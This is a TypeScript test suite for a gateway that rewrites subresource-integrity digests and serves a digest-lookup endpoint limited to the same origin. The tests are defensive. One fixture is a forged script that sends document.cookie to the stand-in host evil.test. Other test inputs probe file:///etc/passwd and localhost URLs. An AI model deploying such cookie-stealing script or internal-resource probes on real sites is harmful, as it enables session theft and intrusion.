import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import type { IncomingMessage } from 'node:http';
import { after, before, describe, test } from 'node:test';
import { gunzipSync, gzipSync } from 'node:zlib';
import type { BrowserClient } from '../../support/browser-client.ts';
import { startTestGateway, type TestGateway } from '../../support/test-gateway.ts';

const SCRIPT = 'window.home = location.href;';
const SHEET = '.a{background:url(https://static.corp.test/a.png)}';
const digestOf = (body: Buffer | string): string => `sha384-${createHash('sha384').update(body).digest('base64')}`;

describe('files with digests', () => {
  let gateway: TestGateway;
  let alice: BrowserClient;
  let page = '';
  let asked: IncomingMessage[] = [];
  /** Fields of the page, and of the hints before it. */
  let link: string[] = [];
  let hints: string[] = [];
  /** What the origin sends for a path; what is not here is SCRIPT. */
  let files: Readonly<Record<string, string>> = {};

  before(async () => {
    gateway = await startTestGateway({
      handler: (request, response) => {
        const path = request.url ?? '';
        if (path === '/page') {
          // Its own writeEarlyHints takes no field with several links.
          for (const value of hints) response.writeInformation(103, { link: value });
          if (link.length > 0) response.setHeader('link', link);
          response.setHeader('set-cookie', 'token=secret; HttpOnly; SameSite=None; Secure');
          response.writeHead(200, { 'content-type': 'text/html' }).end(page);
          return;
        }
        asked.push(request);
        if (path.startsWith('/moved'))
          return void response.writeHead(302, { location: 'https://static.corp.test/there.js' }).end();
        if (path.startsWith('/away'))
          return void response.writeHead(302, { location: 'https://mail.partner.test/there.js' }).end();
        if (path.startsWith('/gone')) return void response.writeHead(404).end(SCRIPT);
        const type = path.includes('.css') ? 'text/css' : 'text/javascript';
        const body = files[path] ?? (path.includes('.css') ? SHEET : SCRIPT);
        if (path.includes('packed'))
          response.writeHead(200, { 'content-type': type, 'content-encoding': 'gzip' }).end(gzipSync(body));
        else response.writeHead(200, { 'content-type': type }).end(body);
      },
    });
    alice = await gateway.signedIn('alice');
  });
  after(() => gateway?.close());

  async function load(markup: string): Promise<string> {
    page = `<!doctype html><title>t</title>${markup}`;
    asked = [];
    [link, hints] = [[], []];
    return (await alice.navigate(`${gateway.suffix('wiki.corp.test')}/page`)).body.toString();
  }

  async function fetched(url: string, destination: string): Promise<Buffer> {
    const headers = { 'sec-fetch-dest': destination, 'sec-fetch-mode': 'cors', 'sec-fetch-site': 'same-origin' };
    const answer = await alice.send(url, { headers });
    return answer.headers['content-encoding'] === 'gzip' ? gunzipSync(answer.body) : answer.body;
  }

  /** The digests of the one element with `integrity`. */
  const digestsIn = (markup: string): readonly string[] =>
    (/integrity="?([^">]*)/.exec(markup)?.[1] ?? '').split(/[ \t]+/);

  test('the page names the digest of what its browser then gets', async () => {
    for (const [markup, path, destination] of [
      [`<script src="/a.js" integrity="${digestOf(SCRIPT)}"></script>`, '/a.js', 'script'],
      [`<script src=packed.js integrity=${digestOf(SCRIPT)}></script>`, '/packed.js', 'script'],
      [`<link rel=stylesheet href=/a.css integrity="${digestOf(SHEET)}">`, '/a.css', 'style'],
      [`<script src="/moved.js" integrity="${digestOf(SCRIPT)}"></script>`, '/a.js', 'script'],
      [
        `<script type=importmap>{"integrity":{"/m.js":"${digestOf(SCRIPT)}"}}</script><i integrity="x">`,
        '/m.js',
        'script',
      ],
    ] as const) {
      const markedUp = await load(markup);
      const received = await fetched(`${gateway.suffix('wiki.corp.test')}${path}`, destination);
      assert.notEqual(received.toString(), destination === 'style' ? SHEET : SCRIPT, 'the file is one that changes');
      assert.ok(markedUp.includes(digestOf(received)), markup);
      assert.ok(markedUp.includes(destination === 'style' ? digestOf(SHEET) : digestOf(SCRIPT)));
    }
  });

  /** A page with these links: its Link field, and those of the hints before it. */
  async function linked(values: { link?: string[]; hints?: string[] }) {
    page = '<!doctype html><title>t</title>';
    asked = [];
    ({ link = [], hints = [] } = values);
    const told: string[] = [];
    const answer = await alice.send(`${gateway.suffix('wiki.corp.test')}/page`, {
      onHints: (headers) => told.push(String(headers['link'])),
    });
    return { link: String(answer.headers['link']), hints: told };
  }

  test('a preload in a Link field names the digest of what its browser then gets', async () => {
    for (const [path, text, as] of [
      ['/linked.js', 'window.linked = location.host;', 'script'],
      ['/linked.css', '.l{background:url(https://static.corp.test/l.png)}', 'style'],
    ] as const) {
      files = { [path]: text };
      const value = `<${path}>; rel=preload; as=${as}; integrity="${digestOf(text)}"`;
      const received = await linked({ link: [value] });
      const changed = digestOf(await fetched(`${gateway.suffix('wiki.corp.test')}${path}`, as));
      assert.notEqual(changed, digestOf(text));
      assert.equal(received.link, value.replace(/"$/, `\t \t${changed}"`));
    }
  });

  test('a link to a forged file is left out, and so is one that cannot be had; others stay', async () => {
    const text = 'window.genuine = location.host;';
    files = { '/forged-link.js': 'window.forged = location.host;' };
    const by = (path: string): string => `<${path}>; rel=preload; as=script; integrity="${digestOf(text)}"`;
    const links = [by('/forged-link.js'), by('/gone.js'), by('https://mail.partner.test/x.js')];
    const plain = '</a.js>; rel=preload; as=script';
    const hint = `${plain}; title="a b", </b.js>; rel=preload; as=script`;
    const received = await linked({ link: [...links, plain], hints: [hint, ...links] });
    assert.equal(received.link, plain);
    assert.deepEqual(received.hints, [hint]);
    assert.ok(asked.every(({ headers }) => headers.host !== 'mail.partner.test'));
  });

  test('hints before the page name the digests as well, once they are known', async () => {
    const text = 'window.hinted = location.host;';
    files = { '/hinted.js': text };
    const value = `</hinted.js>;rel=preload;as=script;integrity=${digestOf(text)}`;
    await linked({ link: [value] });
    const { link: field, hints: told } = await linked({ link: [value], hints: [value] });
    const changed = digestOf(await fetched(`${gateway.suffix('wiki.corp.test')}/hinted.js`, 'script'));
    assert.deepEqual(told, [field]);
    assert.ok(field.includes(changed), field);
  });

  test('more files than one page may have looked into are left out', async () => {
    const text = 'window.one = location.host;';
    const paths = Array.from({ length: 70 }, (_each, at) => `/many-${at}.js`);
    files = Object.fromEntries(paths.map((path) => [path, `${text}//${path}`]));
    const value = paths
      .map((path) => `<${path}>;rel=preload;as=script;integrity=${digestOf(`${text}//${path}`)}`)
      .join(', ');
    const received = await linked({ link: [value] });
    const kept = received.link.split('rel=preload').length - 1;
    assert.equal(kept, 64);
    assert.equal(asked.length, 64);
  });

  /** What the page runtime asks for a file to which script gives digests. */
  const ask = (
    url: string,
    digests: string,
    { site = 'same-origin', loads = 'script', method = 'GET', client = alice } = {},
  ) =>
    client.send(
      `${gateway.suffix('wiki.corp.test')}/.well-known/sallyport/digests?url=${encodeURIComponent(url)}&digests=${encodeURIComponent(digests)}&loads=${loads}`,
      {
        method,
        headers: { 'sec-fetch-dest': 'empty', 'sec-fetch-mode': 'cors', 'sec-fetch-site': site, accept: '*/*' },
      },
    );

  test('script of the page is told the digest of what its browser then gets', async () => {
    const text = 'window.late = location.host;';
    files = { '/late.js': text };
    asked = [];
    const answer = await ask('https://wiki.corp.test/late.js', digestOf(text));
    assert.equal(answer.status, 200);
    assert.equal(answer.headers['cache-control'], 'no-store');
    const digest = digestOf(await fetched(`${gateway.suffix('wiki.corp.test')}/late.js`, 'script'));
    assert.equal(answer.body.toString(), `${digestOf(text)}\t \t${digest}`);
  });

  test('a browser that says nothing of the site names the page that asks, and only the own host counts', async () => {
    const text = 'window.named = location.host;';
    files = { '/named.js': text };
    asked = [];
    const own = gateway.suffix('wiki.corp.test');
    const askedFrom = (more: Record<string, string>) => {
      const url = `${own}/.well-known/sallyport/digests?url=${encodeURIComponent('https://wiki.corp.test/named.js')}&digests=${encodeURIComponent(digestOf(text))}&loads=script`;
      return alice.plain(url, { cookie: alice.jar.getCookieStringSync(url), accept: '*/*', ...more });
    };
    assert.equal((await askedFrom({})).status, 403, 'nothing is named');
    for (const referer of [
      'nonsense',
      'null',
      `${own}.evil.test/`,
      'https://evil.test/',
      `${own.replace('https:', 'http:')}/`,
      `${gateway.suffix('static.corp.test')}/`,
    ])
      assert.equal((await askedFrom({ referer })).status, 403, referer);
    for (const site of ['same-site', 'cross-site', 'none', ''])
      assert.equal((await askedFrom({ referer: `${own}/`, 'sec-fetch-site': site })).status, 403, site);
    assert.deepEqual(asked, [], 'the app is not asked');
    const answer = await askedFrom({ referer: `${own}/page?q=1` });
    assert.equal(answer.status, 200);
    assert.match(answer.body.toString(), /\t \tsha384-/);
  });

  test('it may ask about many at once, and is told line by line', async () => {
    files = { '/first.js': 'window.first = location.host;', '/second.js': 'window.second = location.host;' };
    const [first, second] = Object.values(files).map((text) => digestOf(text));
    const other = digestOf('a file that nobody has');
    const about = (path: string, digests: string): string =>
      `&url=${encodeURIComponent(`https://wiki.corp.test${path}`)}&digests=${encodeURIComponent(digests)}&loads=script`;
    const route = `${gateway.suffix('wiki.corp.test')}/.well-known/sallyport/digests?`;
    const headers = { 'sec-fetch-dest': 'empty', 'sec-fetch-mode': 'cors', 'sec-fetch-site': 'same-origin' };
    const all = await alice.send(
      `${route}${about('/first.js', first!)}${about('/second.js', other)}${about('/second.js', second!)}`,
      { headers },
    );
    const lines = all.body.toString().split('\n');
    assert.equal(lines.length, 3);
    assert.match(lines[0]!, /\t \tsha384-/);
    assert.equal(lines[1], other, 'other bytes are not vouched for');
    assert.match(lines[2]!, /\t \tsha384-/);
    const broken = await alice.send(`${route}${about('/first.js', first!)}&digests=x&url=https%3A%2F%2Fa.test`, {
      headers,
    });
    assert.equal(broken.status, 400, 'one that is not whole');
  });

  test('a file with other bytes gets no other digest, whoever asks and wherever it is', async () => {
    const genuine = digestOf('window.genuine = location.host;');
    files = { '/forged.js': 'window.forged = location.host;' };
    for (const url of [
      'https://wiki.corp.test/forged.js',
      'https://static.corp.test/forged.js',
      'https://mail.partner.test/there.js',
      'https://elsewhere.test/x.js',
      'http://127.0.0.1/',
      'file:///etc/passwd',
    ]) {
      asked = [];
      const answer = await ask(url, genuine);
      assert.equal(answer.body.toString(), genuine, url);
      if (!url.includes('corp.test')) assert.equal(asked.length, 0, url);
    }
  });

  test('digests are told to a signed-in page of the very same origin alone', async () => {
    const digests = digestOf(SCRIPT);
    asked = [];
    for (const site of ['same-site', 'cross-site', 'none'])
      assert.equal((await ask('https://wiki.corp.test/told.js', digests, { site })).status, 403, site);
    const stranger = await ask('https://wiki.corp.test/told.js', digests, { client: gateway.client() });
    assert.ok([302, 303, 401].includes(stranger.status), String(stranger.status));
    for (const [url, named, how] of [
      ['', digests, {}],
      ['/told.js', digests, {}],
      ['https://wiki.corp.test/told.js', '', {}],
      ['https://wiki.corp.test/told.js', digests, { loads: 'document' }],
      ['https://wiki.corp.test/told.js', digests, { method: 'POST' }],
    ] as const)
      assert.equal((await ask(url, named, how)).status, 400, `${url} ${named} ${JSON.stringify(how)}`);
    assert.equal(asked.length, 0);
  });

  test('a forged file is not vouched for', async () => {
    const forged = 'location = "https://evil.test/?" + document.cookie';
    files = { '/forged.js': forged };
    const genuine = 'location.reload()';
    const markup = await load(`<script src="/forged.js" integrity="${digestOf(genuine)}"></script>`);
    const received = await fetched(`${gateway.suffix('wiki.corp.test')}/forged.js`, 'script');
    assert.deepEqual(digestsIn(markup), [digestOf(genuine)]);
    assert.ok(!markup.includes(digestOf(received)));
  });

  test('nor is one forged after it was found good', async () => {
    const genuine = 'location.replace("#ok")';
    files = { '/late.js': genuine };
    const first = await load(`<script src="/late.js" integrity="${digestOf(genuine)}"></script>`);
    files = { '/late.js': 'location.replace("#evil")' };
    const second = await load(`<script src="/late.js" integrity="${digestOf(genuine)}"></script>`);
    assert.deepEqual(digestsIn(second), digestsIn(first));
    const received = await fetched(`${gateway.suffix('wiki.corp.test')}/late.js`, 'script');
    assert.ok(!second.includes(digestOf(received)), 'the browser refuses it');
  });

  test('what cannot be had leaves the page with its own digests', async () => {
    for (const path of ['/gone.js', '/away.js', 'https://mail.partner.test/x.js']) {
      const other = digestOf(`nothing ${path}`);
      const markup = await load(`<script src="${path}" integrity="${other}"></script><p>end`);
      assert.deepEqual(digestsIn(markup), [other], path);
      assert.match(markup, /<p>end$/);
      assert.ok(asked.every(({ headers }) => headers.host !== 'mail.partner.test'));
    }
  });

  test('cookies go with it to the page’s own host and to no other', async () => {
    await load(`<script src="/own.js" integrity="${digestOf('own')}"></script>`);
    assert.match(asked[0]?.headers.cookie ?? '', /token=secret/);
    assert.equal(asked[0]?.headers.referer, 'https://wiki.corp.test/');
    await load(`<script src="https://static.corp.test/cdn.js" integrity="${digestOf('cdn')}"></script>`);
    assert.equal(asked[0]?.headers.cookie, undefined);
    assert.equal(asked[0]?.headers.origin, 'https://wiki.corp.test');
    await load(`<script src="/moved-on.js" integrity="${digestOf('moved on')}"></script>`);
    assert.deepEqual(
      asked.map(({ headers }) => headers.cookie !== undefined),
      [true, false],
    );
  });

  test('a known file is not asked for again', async () => {
    const markup = `<script src="/a.js" integrity="${digestOf(SCRIPT)}"></script>`;
    await load(markup);
    await load(markup);
    assert.deepEqual(asked, []);
  });
});
